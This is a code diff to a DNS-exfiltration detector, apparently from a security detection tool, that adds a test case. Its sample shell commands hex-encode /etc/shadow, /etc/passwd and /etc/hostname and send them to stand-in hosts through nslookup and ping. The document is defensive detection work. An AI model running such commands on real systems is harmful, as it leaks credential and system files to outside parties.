@@ -9,7 +9,7 @@ import { valueWords } from './wording.ts';
 /** Data carried away in the names that are looked up. */
 export const dnsExfiltration: Detector = {
   id: 'dns-exfiltration',
-  version: 1,
+  version: 2,
   title: 'Sends data away inside the names it looks up.',
   attack: ['T1048.003', 'T1071.004'],
   description: `
@@ -22,6 +22,13 @@ machine's own name, is nothing.
     {
       name: 'a secret, through a variable',
       image: { cmd: ['sh', '-c', 'd=$(xxd -p /etc/shadow | head -c 60); nslookup "$d.c.example"'] },
+    },
+    {
+      name: 'line by line',
+      image: {
+        cmd: ['sh', '-c', 'for l in $(xxd -p /etc/passwd); do nslookup $l.c.example; done'],
+        files: { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\nbin:x:1:1:bin:/bin:/sbin/nologin\n' },
+      },
     },
     { name: 'in pings', image: { cmd: ['sh', '-c', 'ping -c1 -p "$(xxd -p /etc/hostname)" 203.0.113.9'] } },
   ],
